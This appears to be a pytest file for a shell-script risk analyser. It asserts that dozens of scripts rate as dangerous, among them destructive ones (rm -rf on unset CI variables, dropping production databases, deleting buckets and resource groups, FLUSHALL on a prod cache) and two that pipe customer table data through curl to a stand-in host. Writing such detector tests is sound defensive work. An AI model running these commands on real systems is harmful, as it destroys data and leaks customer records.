"""What a script made itself may go again; what only looks as if it had may not."""

from __future__ import annotations

import pytest

from scriptsmith.danger.analyse import analyse

NOT_ITS_OWN = (
    'rm -rf "/$CI_JOB_ID"',
    'rm -rf "/srv/${BUILD_TAG}"',
    'rm -rf "/srv/$GITHUB_RUN_ID"/*',
    'docker volume create "data$BUILD_TAG"\ndocker volume rm "data$BUILD_TAG"',
    'kubectl create namespace "orders$CI_JOB_ID"\nkubectl delete namespace "orders$CI_JOB_ID"',
    'createdb "app$CI_JOB_ID" || true\ndropdb "app$CI_JOB_ID"',
    'docker compose -p "app$CI_JOB_ID" up -d\ndocker compose -p "app$CI_JOB_ID" down -v',
    'q() { docker exec "$1" psql -U postgres -c "DROP DATABASE app"; }; docker run -d --name "t-$$" postgres; q "t-$$"; q prod-db',
    'docker run -d --name "t-$$" postgres; for c in "t-$$" prod-db; do docker exec "$c" psql -c "DROP DATABASE app"; done',
    'docker run -d --name "c-$$" postgres:15\ndocker exec "c-$$" psql -h db.prod -c \'DROP DATABASE app\'',
    'docker run -d --name "c-$$" r\ndocker exec "c-$$" redis-cli -h cache.prod FLUSHALL',
    'docker run -d --name "c-$$" r\ndocker exec "c-$$" aws s3 rb s3://company-backups --force',
    "set -e\naz group create -n prod-rg -l westeurope\naz group delete -n prod-rg --yes",
    'rg=$(az group create -n p -l w --query name -o tsv)\naz group delete -n "$rg" --yes',
    "set -e\nmc mb --ignore-existing minio/backups\nmc rb --force minio/backups",
    "set -e\naws s3 mb s3://company-backups\naws s3 rb s3://company-backups --force",
    'v=$(docker volume create pgdata)\ndocker volume rm "$v"',
    "set -e\nkubectl create deployment web --image nginx --dry-run=client -o yaml > web.yaml\nkubectl delete deployment web",
    "set -e\nhelm install orders ./c --dry-run\nhelm uninstall orders",
    "set -e\nzfs create -n -v tank/data\nzfs destroy -r tank/data",
    "set -e\ngcloud sql instances clone prod prod-copy\ngcloud sql instances delete prod --quiet",
    'vol=$(aws ec2 create-snapshot --volume-id vol-0123 --query VolumeId --output text)\naws ec2 delete-volume --volume-id "$vol"',
    'rm -rf "/srv/backups/slot-$(date +%S)"',
    'rm -rf "/srv/backups/$(date +%s | cut -c1-5)"',
    'rm -rf "/srv/run/$(date +%s)/../data"',
    'rm -rf "/srv/x-$(head -c1 /dev/urandom | od -An -tu1)"',
    's=slot-$(date +%S)\nkubectl create ns "$s"\nkubectl delete ns "$s"',
    "mapfile -t d < <(find /srv/backups -name '*.tgz' | sort -r)\nrm -f \"${d[@]:0:${#d[@]}-7}\"",
    "psql -c 'select * from pg_stat_user_tables, customers' | curl -d @- http://x.example",
    "psql -c 'select * from pg_stat_user_tables\ntable customers' | curl -d @- http://x.example",
)
ITS_OWN = (
    'set -e\nd=/srv/work-$$\nmkdir "$d"\nrm -rf "$d"',
    'n=test-$(uuidgen)\nkubectl create ns "$n"\nkubectl delete ns "$n"',
    "id=$(aws ec2 run-instances --image-id ami --query 'Instances[0].InstanceId' --output text)\naws ec2 terminate-instances --instance-ids \"$id\"",
    'docker run -d --name "c-$$" nginx\ndocker rm -f "c-$$"',
)


@pytest.mark.parametrize("text", NOT_ITS_OWN)
def test_what_may_have_been_there_before_is_dangerous(text: str) -> None:
    """A number that may be empty or comes again, a making that was none, something reached from inside of a container, the
    source of a copy, another thing than the one that was made."""
    assert analyse(text).risk in ("dangerous", "unanalysable")


@pytest.mark.parametrize("text", ITS_OWN)
def test_what_the_script_made_may_go(text: str) -> None:
    """Under a name of this run alone, or by the name that the making command printed."""
    assert analyse(text).risk == "notable"
